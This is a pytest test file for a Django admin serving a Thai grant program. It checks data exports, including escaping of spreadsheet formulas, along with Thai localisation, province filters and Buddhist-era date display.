def test_xlsx_export_escapes_formulas(client, world):
    import openpyxl
    from import_export.formats.base_formats import XLSX

    application = world["application"]
    application.team_name = EVIL
    application.save(update_fields=["team_name"])
    client.force_login(world["users"]["program_staff"])

    response = _export(client, file_format=XLSX)

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + EVIL in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    assert "มูลนิธิรักษ์ป่าต้นน้ำน่าน" in [cell.value for cell in cells]


def test_export_has_a_column_per_question_of_the_cohort(client, world):
    from cohorts.enums import QuestionKind
    from cohorts.models import Answer
    from cohorts.tests.factories import QuestionFactory

    yes_no = QuestionFactory(cohort=world["cohort"], kind=QuestionKind.YES_NO, text="เคยรับทุนมาก่อนหรือไม่")
    choices = QuestionFactory(cohort=world["cohort"], kind=QuestionKind.MULTIPLE_CHOICE, text="พื้นที่ทำงาน")
    QuestionFactory(cohort=world["other_application"].cohort, text="คำถามของโครงการอื่น")
    Answer.objects.create(application=world["application"], question=yes_no, value=True)
    Answer.objects.create(application=world["application"], question=choices, value=["ป่าไม้", "น้ำ"])
    client.force_login(world["users"]["program_staff"])

    rows = _export_csv(client)

    assert rows[0]["เคยรับทุนมาก่อนหรือไม่"] == "ใช่"
    assert rows[0]["พื้นที่ทำงาน"] == "ป่าไม้, น้ำ"
    assert "คำถามของโครงการอื่น" not in rows[0]


@pytest.mark.parametrize(("language", "header"), [("th", "ผู้สมัคร"), ("en", "Applicant")])
def test_export_headers_are_in_the_staff_members_language(client, world, language, header):
    staff = world["users"]["program_staff"]
    staff.preferred_language = language
    staff.save(update_fields=["preferred_language"])
    client.force_login(staff)

    rows = _export_csv(client)

    assert header in rows[0]
    assert "team_name" not in rows[0]
    assert "submitted_at" not in rows[0]


def test_export_file_name_has_the_bangkok_date(client, world):
    import datetime as dt

    import time_machine

    client.force_login(world["users"]["program_staff"])
    # 30 November 2026, 01:30 in Bangkok: still the 29th in UTC.
    with time_machine.travel(dt.datetime(2026, 11, 29, 18, 30, tzinfo=dt.UTC), tick=False):
        response = _export(client)

    assert 'filename="application-2026-11-30.csv"' in response["Content-Disposition"]


def test_province_filter_groups_77_provinces_in_six_regions(client, world):
    import re

    client.force_login(world["users"]["program_staff"])

    response = client.get(CHANGELIST, {"province": "TH-55"})

    body = response.content.decode()
    assert [a.pk for a in response.context["cl"].result_list] == [world["application"].pk]
    start = body.index('class="region-filter"')
    filter_html = body[start : body.find("data-filter-title", start)]
    assert len(re.findall(r"<summary>", filter_html)) == 6
    assert len(re.findall(r"\?province=TH-\d\d", filter_html)) == 77
    assert "<details open>\n        <summary>ภาคเหนือ</summary>" in body  # Nan is in the north: its region is open


# Thai admin -------------------------------------------------------------------------------------

# Words that stay as they are in Thai pages: the program's own term, file formats.
ENGLISH_ALLOWED = {"Intrapreneur", "csv", "xlsx", "LINE"}  # LINE: the messaging app's name


def _visible_text(html: str) -> list[str]:
    """What a person reads or a screen reader says: text nodes, and the title, alt, aria-label
    and placeholder attributes and button labels (not form values or hidden inputs)."""
    import re

    html = re.sub(r"(?s)<(script|style|svg|symbol|option|textarea)\b.*?</\1>", " ", html)
    html = re.sub(r"(?s)<!--.*?-->", " ", html)
    html = re.sub(r"&[a-z]+;|&#x?[0-9a-f]+;", " ", html)
    texts = re.findall(r"(?s)>([^<]+)<", html)
    texts += re.findall(r'(?:title|alt|aria-label|placeholder)="([^"]*)"', html)
    texts += re.findall(r'<input type="(?:submit|button)"[^>]*value="([^"]*)"', html)
    return [" ".join(text.split()) for text in texts if text.strip()]


def test_thai_admin_pages_have_no_english_left(client, world):
    import re

    application = world["application"]
    staff = world["users"]["program_staff"]
    staff.full_name = "กิตติ ทีมโครงการ"
    staff.save(update_fields=["full_name"])
    application.reviews.update(reviewer=UserFactory(full_name="สมศรี กรรมการ", email="somsri@example.org"))
    client.force_login(staff)
    pages = [
        reverse("admin:index"),
        CHANGELIST + "?status__exact=submitted",
        reverse("admin:cohorts_application_export"),
        reverse("admin:cohorts_application_change", args=[application.pk]),
        reverse("admin:cohorts_application_history", args=[application.pk]),
        reverse("admin:cohorts_cohort_changelist"),
        reverse("admin:cohorts_organisation_changelist"),
        reverse("admin:cohorts_organisation_export"),
        reverse("admin:incubator_outboundemail_changelist"),
    ]

    english = {}
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        for text in _visible_text(response.content.decode()):
            words = set(re.findall(r"[A-Za-z][A-Za-z'’]{2,}", re.sub(r"\S+@\S+", " ", text)))
            if words and not words <= ENGLISH_ALLOWED:
                english.setdefault(text, page)

    assert english == {}


def test_thai_admin_strings_django_leaves_in_english(client, world):
    client.force_login(world["users"]["program_staff"])

    changelist = client.get(CHANGELIST, {"status__exact": "submitted"}).content.decode()
    javascript = client.get(reverse("admin:jsi18n")).content.decode()

    for thai in ("พิมพ์เพื่อกรอง…", "ล้างตัวกรองทั้งหมด", "แสดงจำนวน", "ข้ามไปยังเนื้อหาหลัก", "เลือกทุกรายการในหน้านี้"):
        assert thai in changelist
    for english in ("Start typing to filter", "Clear all filters", "Show counts", "Skip to main content"):
        assert english not in changelist
    assert (
        "\\u0e40\\u0e25\\u0e37\\u0e2d\\u0e01\\u0e41\\u0e25\\u0e49\\u0e27 %(sel)s" in javascript
        or "เลือกแล้ว %(sel)s" in javascript
    )


@pytest.mark.parametrize(("language", "year"), [("th", "2569"), ("en", "2026")])
def test_admin_lists_show_dates_as_people_read_them(client, world, language, year):
    import datetime as dt

    Application.objects.filter(pk=world["application"].pk).update(
        submitted_at=dt.datetime(2026, 12, 6, 3, 0, tzinfo=dt.UTC)
    )
    staff = world["users"]["program_staff"]
    staff.preferred_language = language
    staff.save(update_fields=["preferred_language"])
    client.force_login(staff)

    body = client.get(CHANGELIST).content.decode()

    assert f"6 {'ธันวาคม' if language == 'th' else 'December'} {year}, 10:00" in body


@pytest.mark.parametrize(("language", "year"), [("th", "2569"), ("en", "2026")])
def test_date_drill_down_shows_buddhist_era_years_in_thai(client, world, language, year):
    from cohorts.models import DeadlineReminder

    DeadlineReminder.objects.create(application=world["application"], offset_hours=24)
    staff = world["users"]["program_staff"]
    staff.preferred_language = language
    staff.save(update_fields=["preferred_language"])
    client.force_login(staff)

    body = client.get(reverse("admin:cohorts_deadlinereminder_changelist")).content.decode()

    toplinks = body[body.index('class="toplinks"') :]
    toplinks = toplinks[: toplinks.index("</nav>")]
    assert year in toplinks


@pytest.mark.parametrize("rows", [1, 6])
def test_application_export_with_question_columns_has_a_flat_query_count(
    client, world, django_assert_num_queries, rows
):
    from cohorts.models import Answer
    from cohorts.tests.factories import QuestionFactory

    questions = [QuestionFactory(cohort=world["cohort"], text=f"คำถาม {n}") for n in range(3)]
    for _ in range(rows - 1):
        SubmittedApplicationFactory(cohort=world["cohort"], organisation=OrganisationFactory())
    for application in Application.objects.filter(cohort=world["cohort"]):
        for question in questions:
            Answer.objects.create(application=application, question=question, value="ตอบ")
    client.force_login(world["users"]["program_staff"])

    # 10: the export is written to the access log (incubator.audit), one INSERT.
    with django_assert_num_queries(10):
        rows_out = _export_csv(client)

    assert len(rows_out) == rows
    assert {row["คำถาม 2"] for row in rows_out} == {"ตอบ"}


def test_admin_index_says_view_in_thai_without_django_catalogs_stray_colon(client, world):
    client = _client_for(client, world["users"]["program_staff"])
    client.cookies["django_language"] = "th"

    body = client.get("/admin/", headers={"accept-language": "th"}).content.decode()

    assert "ดู:" not in body
    assert "ดู" in body
